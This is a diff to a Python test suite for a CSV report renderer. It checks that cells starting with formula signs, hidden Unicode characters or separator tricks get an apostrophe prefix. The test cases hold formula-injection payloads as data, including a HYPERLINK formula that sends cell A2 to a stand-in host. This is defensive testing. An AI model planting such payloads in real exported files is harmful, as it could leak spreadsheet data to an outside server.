@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import sys
+import unicodedata
 from datetime import UTC, datetime
 from typing import Any
 
@@ -13,7 +15,7 @@ from hypothesis import given, strategies as st
 from wxtcb.api.environment import ShareLink
 from wxtcb.provision import Outcome, Problem, Report, TenantReport
 from wxtcb.provision.report import RunInfo
-from wxtcb.provision.report_csv import render_csv
+from wxtcb.provision.report_csv import _NEEDS_APOSTROPHE, render_csv
 
 RUN_INFO = RunInfo(base_url="https://api.weixin.qq.com", component_appid="wx1", namespace="shop")
 CREATED_AT = datetime(2026, 7, 1, 10, 0, 5, tzinfo=UTC)
@@ -22,6 +24,7 @@ CHANGED = ("123456789012", "007", "1e5", "12.5E+3", "3/4", "1.50", "12:30", "202
 CHANGED += ("MAR1", "1-Mar", "sept 2026", "March 5, 2026", "22 nov 26")
 UNCHANGED = ("12345678901", "1234567890123a", "a=b", "一=二", "'=1")
 UNCHANGED += ("0", "7", "007a", "1e5x", "e5", "mary", "market 3a", "t1")
+BLANKED = ("\u200b=1", "\ufeff+1", "\u00ad-1", "\x00@1", " \u2060\u202e=1")
 FORMULAS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n")
 
 
@@ -60,7 +63,7 @@ def test_row_has_result_and_run_info() -> None:
             "links": "wx1 https://mp.weixin.qq.com/1\nwx2 https://mp.weixin.qq.com/2",
             "existing": "",
             "summary": "web existed after an ambiguous request",
-            "created_at": "2026-07-01T10:00:05+00:00",
+            "created_at": "2026-07-01T18:00:05+08:00",
             "base_url": "https://api.weixin.qq.com",
             "component_appid": "wx1",
             "namespace": "shop",
@@ -90,7 +93,7 @@ def test_report_without_tenants_is_a_header() -> None:
     assert read() == []
 
 
-@pytest.mark.parametrize("name", [f"{sign}cmd()" for sign in FORMULAS] + [" =1", "\u3000+1", *CHANGED])
+@pytest.mark.parametrize("name", [f"{sign}cmd()" for sign in FORMULAS] + [" =1", "\u3000+1", *BLANKED, *CHANGED])
 def test_formula_number_and_date_begin_with_an_apostrophe(name: str) -> None:
     """This holds in every column."""
     tenant = entry(tenant=name, alias=name, env=name, services=(name,), metadata={"m": name})
@@ -112,11 +115,55 @@ def test_long_cell_is_truncated() -> None:
     assert read(entry(outcome=Outcome.CONFLICT, reason="x" * 32_767))[0]["summary"] == "x" * 32_767
 
 
-@given(st.text(max_size=40), st.text(max_size=40))
+@pytest.mark.parametrize(
+    ("reason", "cell"),
+    [
+        ('-1 busy;=HYPERLINK("http://x/?"&A2;"open")', """'-1 busy;'=HYPERLINK("http://x/?"&A2;"open")"""),
+        ("a, +1|@x\t-1", "a,' +1|'@x\t'-1"),
+        ("a\r\n=1", "a\r\n'=1"),
+        ('a;"=1"', """a;'"=1\""""),
+        ("a;\u200b\ufeff=1", "a;'\u200b\ufeff=1"),
+        ("a;\uff1b\uff1d1;\uff1d1", "a;\uff1b\uff1d1;'\uff1d1"),
+        ("a; b=1,c", "a; b=1,c"),
+    ],
+)
+def test_formula_behind_a_separator_is_no_formula(reason: str, cell: str) -> None:
+    """Where Excel separates columns by another sign, it splits a cell there."""
+    assert read(entry(outcome=Outcome.CONFLICT, reason=reason))[0]["summary"] == cell
+
+
+def test_many_separators_take_linear_time() -> None:
+    """A cell of blanks between separators is searched once."""
+    reason = ("\t " * 200_000) + ("; " * 200_000)
+    assert len(read(entry(outcome=Outcome.CONFLICT, reason=reason))[0]["summary"]) == 32_767
+
+
+TEXTS = st.text(st.sampled_from(";,|\t\r\n=+-@\" '\u200b\uff1dax"), max_size=30) | st.text(max_size=40)
+
+
+@given(TEXTS, TEXTS)
 def test_any_text_round_trips(name: str, reason: str) -> None:
-    """Quotes, separators and line breaks survive, and no cell begins like a formula."""
-    tenant = entry(tenant=name, outcome=Outcome.CONFLICT, reason=reason)
-    (row,) = read(tenant)
+    """Quotes, separators and line breaks survive; only apostrophes are added."""
+    (row,) = read(entry(tenant=name, outcome=Outcome.CONFLICT, reason=reason))
     for value, cell in ((name, row["tenant"]), (reason, row["summary"])):
-        assert cell in (value, f"'{value}")
-        assert not cell.lstrip().startswith(FORMULAS)
+        assert cell.replace("'", "") == value.replace("'", "")
+
+
+@given(TEXTS, TEXTS, st.sampled_from(";,|\t"))
+def test_no_cell_is_a_formula(name: str, reason: str, separator: str) -> None:
+    """This holds whatever sign a spreadsheet separates columns by."""
+    text = render_csv(
+        Report((entry(tenant=name, outcome=Outcome.CONFLICT, reason=reason, services=(name, reason)),), 1)
+    )
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+        for cell in row:
+            visible = [each for each in cell if not each.isspace() and unicodedata.category(each) not in ("Cc", "Cf")]
+            assert not "".join(visible[:1]).startswith(FORMULAS), cell
+
+
+def test_every_invisible_character_counts_as_a_blank() -> None:
+    """The pattern has all control and format characters and blanks of Unicode."""
+    for number in range(sys.maxunicode + 1):
+        letter = chr(number)
+        if letter.isspace() or unicodedata.category(letter) in ("Cc", "Cf"):
+            assert _NEEDS_APOSTROPHE.match(f"{letter}=1"), hex(number)
